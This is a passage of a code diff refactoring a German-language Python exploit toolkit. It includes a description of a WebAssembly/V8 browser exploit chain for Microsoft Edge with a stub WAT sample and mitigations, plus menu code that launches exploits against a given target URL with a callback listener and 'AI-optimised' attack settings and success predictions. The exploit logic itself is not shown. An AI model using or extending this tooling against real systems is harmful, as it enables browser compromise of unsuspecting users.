-Exploit-Mechanismus:
-------------------
-1. Der Angreifer erstellt ein WebAssembly-Modul mit einer Funktion, die eine WebAssembly.Table wachsen lässt
-2. Der TurboFan-Compiler optimiert den Code und entfernt fälschlicherweise Bounds-Checks
-3. Der Angreifer kann Out-of-Bounds-Zugriffe auf den V8-Heap durchführen
-4. Durch Manipulation von WasmInstanceObject kann beliebiger RWX-Speicher alloziert werden
-5. Ein ROP-Chain kann erstellt werden, um SMEP/SMAP zu umgehen und Code mit erhöhten Rechten auszuführen
-
-Payload-Beispiel:
----------------
-```wat
-(module
- (func $grow (param $delta i32)
- (call $grow_table (i32.const 0) (local.get $delta))
- )
-)
-```
-
-Betroffene Versionen:
--------------------
-- Microsoft Edge < 135.0.1118.62
-- Chromium-basierte Browser mit ähnlichen V8-Versionen
-
-Gegenmaßnahmen:
--------------
-- Aktualisieren Sie Microsoft Edge auf Version 135.0.1118.62 oder höher
-- Aktivieren Sie Site Isolation und andere Sicherheitsfeatures in Edge
-- Deaktivieren Sie WebAssembly in Unternehmensumgebungen, wenn möglich
-- Verwenden Sie einen Virenscanner mit Browser-Exploit-Erkennung
-"""
- 
- else:
- documentation = f"Keine Dokumentation für {self.cve_id.upper()} verfügbar."
+ documentation = _CVE_DOCS.get(self.cve_id) or f"Keine Dokumentation für {self._cve_upper} verfügbar."
  
- print(documentation)
+ _emit(documentation)
  
  input(f"\n{Colors.GREEN}Drücken Sie Enter, um fortzufahren...{Colors.RESET}")
  
@@ -1346,9 +1532,9 @@ Gegenmaßnahmen:
  Zeigt AI-empfohlene Konfiguration für den Exploit an
  """
  self._clear()
- self._draw_box(80, f"AI-EMPFOHLENE KONFIGURATION - {self.cve_id.upper()}")
+ self._draw_box(80, f"AI-EMPFOHLENE KONFIGURATION - {self._cve_upper}")
  
- print(f"\n{Colors.CYAN}[*] AI analysiert optimale Exploit-Konfiguration...{Colors.RESET}")
+ print(f"\n{_INFO}AI analysiert optimale Exploit-Konfiguration...{Colors.RESET}")
  
  # Get target information
  print(f"\n{Colors.BRIGHT_WHITE}Bitte geben Sie Zielinformationen an:{Colors.RESET}")
@@ -1391,7 +1577,7 @@ Gegenmaßnahmen:
  }
  
  # Get AI recommendations
- print(f"\n{Colors.CYAN}[*] AI erstellt optimale Konfiguration...{Colors.RESET}")
+ print(f"\n{_INFO}AI erstellt optimale Konfiguration...{Colors.RESET}")
  time.sleep(1)
  
  if self.ai_orchestrator:
@@ -1450,16 +1636,16 @@ Gegenmaßnahmen:
  
  # Apply configuration?
  apply = input(f"\n{Colors.BRIGHT_CYAN}Diese AI-Konfiguration anwenden? [J/n]: {Colors.RESET}")
- if apply.lower() not in ['n', 'nein', 'no']:
- print(f"\n{Colors.CYAN}[*] Wende AI-Konfiguration an...{Colors.RESET}")
+ if apply.casefold() not in _NO:
+ print(f"\n{_INFO}Wende AI-Konfiguration an...{Colors.RESET}")
  time.sleep(1)
  
  # Execute with AI config
  exploit_params = {
- 'kali_ip': Utils.get_ip_address(),
+ 'kali_ip': _local_ip(),
  'port': optimal_config['listen_port'],
  'target_url': target_url,
- 'callback_url': self._get_ngrok_url() if optimal_config['use_ngrok'] else f"http://{Utils.get_ip_address()}:{optimal_config['listen_port']}",
+ 'callback_url': self._get_ngrok_url() if optimal_config['use_ngrok'] else f"http://{_local_ip()}:{optimal_config['listen_port']}",
  'simulation_mode': False,
  'ai_optimized': True,
  'ai_confidence': confidence
@@ -1474,14 +1660,14 @@ Gegenmaßnahmen:
  if self.ai_orchestrator:
  self.ai_orchestrator.add_feedback(target_data, self.cve_id, True)
  else:
- print(f"\n{Colors.RED}[!] Exploit fehlgeschlagen{Colors.RESET}")
+ print(f"\n{_ERR}Exploit fehlgeschlagen{Colors.RESET}")
  if self.ai_orchestrator:
  self.ai_orchestrator.add_feedback(target_data, self.cve_id, False)
  
  except Exception as e:
- print(f"{Colors.RED}[!] AI-Analyse fehlgeschlagen: {str(e)}{Colors.RESET}")
+ print(f"{_ERR}AI-Analyse fehlgeschlagen: {str(e)}{Colors.RESET}")
  else:
- print(f"{Colors.YELLOW}[!] AI Orchestrator nicht verfügbar{Colors.RESET}")
+ print(f"{_WARN}AI Orchestrator nicht verfügbar{Colors.RESET}")
  
  input(f"\n{Colors.GREEN}Drücken Sie Enter, um fortzufahren...{Colors.RESET}")
  
@@ -1490,9 +1676,9 @@ Gegenmaßnahmen:
  Predict exploit success probability using AI
  """
  self._clear()
- self._draw_box(80, f"AI ERFOLGSWAHRSCHEINLICHKEIT - {self.cve_id.upper()}")
+ self._draw_box(80, f"AI ERFOLGSWAHRSCHEINLICHKEIT - {self._cve_upper}")
  
- print(f"\n{Colors.BRIGHT_WHITE}AI-basierte Erfolgsvorhersage für {self.cve_id.upper()}{Colors.RESET}\n")
+ print(f"\n{Colors.BRIGHT_WHITE}AI-basierte Erfolgsvorhersage für {self._cve_upper}{Colors.RESET}\n")
  
  # Get target details
  print(f"{Colors.YELLOW}Ziel-Details eingeben:{Colors.RESET}")
@@ -1502,7 +1688,7 @@ Gegenmaßnahmen:
  user_awareness = input(f"{Colors.CYAN}Sicherheitsbewusster Benutzer? [j/N]: {Colors.RESET}").lower() == 'j'
  
  # Calculate with AI
- print(f"\n{Colors.CYAN}[*] AI berechnet Erfolgswahrscheinlichkeit...{Colors.RESET}")
+ print(f"\n{_INFO}AI berechnet Erfolgswahrscheinlichkeit...{Colors.RESET}")
  time.sleep(1)
  
  # Base probability from CVE
@@ -1551,7 +1737,7 @@ Gegenmaßnahmen:
  print(f"{Colors.BRIGHT_GREEN} AI Vorhersage-Ergebnisse{Colors.RESET}")
  print(f"{Colors.BRIGHT_GREEN}{'='*60}{Colors.RESET}\n")
  
- print(f"{Colors.YELLOW}Exploit:{Colors.RESET} {self.cve_id.upper()} - {self.description}")
+ print(f"{Colors.YELLOW}Exploit:{Colors.RESET} {self._cve_upper} - {self.description}")
  print(f"{Colors.YELLOW}Ziel:{Colors.RESET} {target_url}")
  
  print(f"\n{Colors.YELLOW}Basis-Wahrscheinlichkeit:{Colors.RESET} {int(base_prob * 100)}%")